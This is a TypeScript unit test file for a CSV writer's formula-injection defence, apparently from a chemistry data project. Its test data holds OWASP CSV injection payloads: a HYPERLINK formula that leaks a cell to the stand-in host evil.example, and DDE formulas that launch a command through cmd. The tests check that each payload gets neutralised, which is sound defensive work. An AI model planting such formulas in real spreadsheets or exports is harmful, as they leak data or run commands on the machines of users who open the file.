/**
 * The CSV cell rule (src/tabular/csv-write.ts): a cell a spreadsheet would run as a formula gets
 * a leading `'`; a plain number does not.
 *
 * Reference cells: the OWASP "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection),
 * its payload examples (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`, the
 * `+`/`-` variants) and its two quoting examples (`=1+2";=1+2` and `=1+2'" ;,=1+2`), plus the
 * leading TAB and carriage return the brief and OWASP ASVS 1.2.10 name. The expected CSV text of
 * the quoting examples is written by hand from RFC 4180 §2.6–2.7 (a field with `"`, `,` or `;`
 * stays one field: quoted, inner quotes doubled) with the `'` in front; the file is also read
 * back with csv-parse, an independent reader.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { csvFields, csvRows, neutraliseCell } from "../../../src/tabular/csv-write.ts";

describe("neutraliseCell", () => {
  it("puts a ' before the OWASP formula payloads", () => {
    const payloads = [
      `=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click for further information")`,
      `=cmd|' /C calc'!A0`,
      `@SUM(1+9)*cmd|' /C calc'!A0`,
      `+2+5+cmd|' /C calc'!A0`,
      `-2+3+cmd|' /C calc'!A0`,
      `=1+2";=1+2`,
      `=1+2'" ;,=1+2`,
    ];
    for (const p of payloads) assert.equal(neutraliseCell(p), `'${p}`, p);
  });

  it("puts a ' before a leading TAB or carriage return", () => {
    assert.equal(neutraliseCell("\t=1+2"), "'\t=1+2");
    assert.equal(neutraliseCell("\r=1+2"), "'\r=1+2");
  });

  it("leaves plain numbers as numbers, negative and signed ones included", () => {
    for (const n of ["-1.5", "+3e-2", "-0.003", "-3.0E-3", "-12", "+7", "-.5", "-5.", "0", "42", "1e10"]) assert.equal(neutraliseCell(n), n, n);
  });

  it("neutralises what only looks like a number at first", () => {
    for (const s of ["-1.5+A1", "-INF", "+1-2", "-1,5", "- 1", "-", "+", "@"]) assert.equal(neutraliseCell(s), `'${s}`, s);
  });

  it("leaves ordinary text, SMILES and InChIs alone", () => {
    for (const s of ["", "active", "CC(=O)O", "c1ccccc1", "InChI=1S/C2H6O/c1-2-3/h3H,2H2,1H3", "a=b", "x-y", "'=1"]) assert.equal(neutraliseCell(s), s, s);
  });
});

describe("csvRows", () => {
  it("quotes per RFC 4180 after neutralising (OWASP's two quoting examples, written by hand)", () => {
    assert.equal(csvRows([[`=1+2";=1+2`]]), `"'=1+2"";=1+2"\n`);
    assert.equal(csvRows([[`=1+2'" ;,=1+2`]]), `"'=1+2'"" ;,=1+2"\n`);
  });

  it("reads back (csv-parse) as the neutralised cells, one field each, numbers intact", () => {
    const rows = [
      ["SMILES", "note", "logP"],
      ["CCO", `=HYPERLINK("http://evil.example/","x")`, "-1.5"],
      ["CC(=O)O", "@SUM(1+9)", "+3e-2"],
      ["c1ccccc1", "-2+3+cmd|' /C calc'!A0", "-0.003"],
    ];
    const back = parse(csvRows(rows)) as string[][];
    assert.deepEqual(back, [
      ["SMILES", "note", "logP"],
      ["CCO", `'=HYPERLINK("http://evil.example/","x")`, "-1.5"],
      ["CC(=O)O", "'@SUM(1+9)", "+3e-2"],
      ["c1ccccc1", "'-2+3+cmd|' /C calc'!A0", "-0.003"],
    ]);
  });
});

describe("csvFields", () => {
  it("one line's cells without the line end, by hand from RFC 4180; parts joined with ',' read back as the one line", () => {
    const cells = ["CCO", "", "a,b", `say "hi"`, "=1+2", "-1.5", ""];
    // Written by hand: the empty cells stay empty, "a,b" and the quote are quoted (inner quote doubled), "=1+2" neutralised.
    assert.equal(csvFields(cells), `CCO,,"a,b","say ""hi""",'=1+2,-1.5,`);
    // Split anywhere, also into parts of one empty cell, the parts make the same line.
    for (const cut of [1, 2, 3, 6]) {
      const line = `${csvFields(cells.slice(0, cut))},${csvFields(cells.slice(cut))}\n`;
      assert.deepEqual(parse(line, { relax_column_count: true }), [["CCO", "", "a,b", `say "hi"`, "'=1+2", "-1.5", ""]], `cut at ${cut}`);
    }
  });
});
